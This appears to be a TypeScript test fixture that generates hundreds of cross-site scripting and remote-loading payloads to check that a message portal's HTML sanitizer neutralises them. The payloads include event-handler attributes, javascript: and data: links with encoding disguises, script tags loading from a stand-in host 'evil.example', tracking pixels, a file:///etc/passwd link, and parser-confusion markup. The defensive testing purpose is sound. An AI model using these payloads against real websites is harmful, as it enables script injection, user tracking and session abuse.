/**
 * Messages that try to make the reader's browser run or load something. Each calls `ran()` or contacts `REMOTE_HOST`; the
 * portal is safe if a browser shows them all and does neither.
 */
export const REMOTE_HOST = 'evil.example';
const REMOTE = `https://${REMOTE_HOST}`;
const RUN = 'ran()';

export const scriptPayloads: readonly string[] = [
  ...new Set([
    ...eventHandlers(),
    ...links(),
    ...scripts(),
    ...remoteContent(),
    ...brokenMarkup(),
    ...confusedParsers(),
  ]),
];

/** Attributes that run a script, on allowed and on forbidden tags. */
function eventHandlers(): string[] {
  const tags = [
    'p',
    'strong',
    'em',
    'u',
    'a',
    'li',
    'br',
    'b',
    'i',
    'img',
    'svg',
    'body',
    'details',
    'video',
  ];
  const events = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle'];
  const extra = 'src=x tabindex=1 autofocus style="animation:x"';
  const written = [
    (tag: string, event: string) => `<${tag} ${extra} ${event}="${RUN}">x</${tag}>`,
    (tag: string, event: string) => `<${tag.toUpperCase()}/${event.toUpperCase()}=${RUN} ${extra}>x`,
  ];
  return written.flatMap((write) => tags.flatMap((tag) => events.map((event) => write(tag, event))));
}

/** Link addresses that run a script in some browser. */
function links(): string[] {
  const addresses = [
    `javascript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,${btoa(`<script>${RUN}</script>`)}`,
    `blob:${REMOTE}/x`,
    `file:///etc/passwd`,
    `view-source:${REMOTE}`,
    `jar:${REMOTE}!/x`,
    `feed:javascript:${RUN}`,
    `//${REMOTE_HOST}/`,
    `/\\${REMOTE_HOST}/`,
    `/api/logout`,
  ];
  const disguises = [
    (address: string) => address,
    (address: string) => address.toUpperCase().replace('RAN()', RUN),
    (address: string) => ` \t\n${address}`,
    (address: string) => `\u0001\u001f${address}`,
    (address: string) => address.replace(/^(..)/, '$1&#9;'),
    (address: string) => address.replace(/^(..)/, '$1&#x0A;'),
    (address: string) => address.replace(':', '&colon;'),
    (address: string) => [...address].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
    (address: string) => [...address].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(''),
    (address: string) => address.replace(/^(.)/, '$1\u00ad'),
    (address: string) => `${REMOTE}" onclick="${RUN}" title="${address}`,
    (address: string) => `https:${address}`,
  ];
  const anchors = addresses.flatMap((address) =>
    disguises.map((disguise) => `<a href="${disguise(address)}">x</a>`),
  );
  const others = ['<a xlink:href', '<area href', '<base href', '<form action', '<iframe src', '<object data'];
  return [...anchors, ...others.flatMap((tag) => addresses.map((address) => `${tag}='${address}'>x`))];
}

function scripts(): string[] {
  const openings = ['<script>', '<SCRIPT >', '<script/x>', '<script\n>', '<scr<script>ipt>', '<svg><script>'];
  const bodies = [RUN, `//--></script><script>${RUN}`, `<!--\n${RUN}\n-->`, `\u2028${RUN}`];
  const closings = ['</script>', '</script\t>', '</SCRIPT x>', ''];
  const sources = [`<script src="${REMOTE}/x.js"></script>`, `<script type=module src=//${REMOTE_HOST}>`];
  return [
    ...sources,
    ...openings.flatMap((opening) =>
      bodies.flatMap((body) => closings.map((closing) => `${opening}${body}${closing}`)),
    ),
  ];
}

/** Content that is loaded from elsewhere, which would reveal when and where a message is read. */
function remoteContent(): string[] {
  const url = `${REMOTE}/pixel.png`;
  const styles = [`background:url(${url})`, `list-style-image:url(${url})`, `background:u\\72l(${url})`];
  const styled = ['p', 'li', 'a', 'strong', 'br'].flatMap((tag) =>
    styles.map((style) => `<${tag} style="${style}">x</${tag}>`),
  );
  return [
    ...styled,
    `<img src="${url}">`,
    `<img srcset="${url} 1x">`,
    `<picture><source srcset="${url}"><img></picture>`,
    `<video poster="${url}" src="${url}"></video>`,
    `<audio src="${url}" autoplay></audio>`,
    `<link rel="stylesheet" href="${url}">`,
    `<link rel="dns-prefetch" href="//${REMOTE_HOST}">`,
    `<style>@import "${url}"; p { background: url(${url}) }</style>`,
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
    `<embed src="${url}">`,
    `<object data="${url}"></object>`,
    `<input type="image" src="${url}">`,
    `<svg><image href="${url}"/></svg>`,
    `<svg><use href="${url}#x"/></svg>`,
    `<table background="${url}"><tr><td>x`,
    `<a href="${REMOTE}" ping="${url}">x</a>`,
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<form action="${url}"><button autofocus>x</button></form>`,
  ];
}

/** Tags that end at another place than it seems. */
function brokenMarkup(): string[] {
  const image = `<img src=x onerror=${RUN}>`;
  const before = [
    '<p title="</p>',
    '<a href="',
    "<a href='x",
    '<p <',
    '<<p>',
    '<!--',
    '<![CDATA[',
    '<?x ',
    '</p/',
  ];
  const between = [image, `">${image}`, `'>${image}`, `-->${image}`, `]]>${image}`, `\`>${image}`];
  return before.flatMap((start) => between.map((end) => `${start}${end}`));
}

/** Content that is parsed differently inside other elements. */
function confusedParsers(): string[] {
  const image = `<img src=x onerror=${RUN}>`;
  const shells = [
    'math><mtext',
    'svg><desc',
    'svg><foreignObject',
    'math><annotation-xml',
    'table',
    'select',
  ];
  const raw = ['style', 'title', 'textarea', 'noscript', 'xmp', 'noembed', 'template', 'plaintext', 'option'];
  const inside = shells.flatMap((shell) => raw.map((tag) => `<${shell}><${tag}>${image}</${tag}>`));
  const escaped = raw.map((tag) => `<${tag}><p id="</${tag}>${image}">`);
  const twice = [image, `<script>${RUN}</script>`].flatMap((html) => {
    const once = html.replaceAll('<', '&lt;').replaceAll('>', '&gt;');
    return [
      once,
      once.replaceAll('&', '&amp;'),
      html.replaceAll('<', '\uff1c'),
      html.replaceAll('<', '&LT;'),
    ];
  });
  return [...inside, ...escaped, ...twice];
}
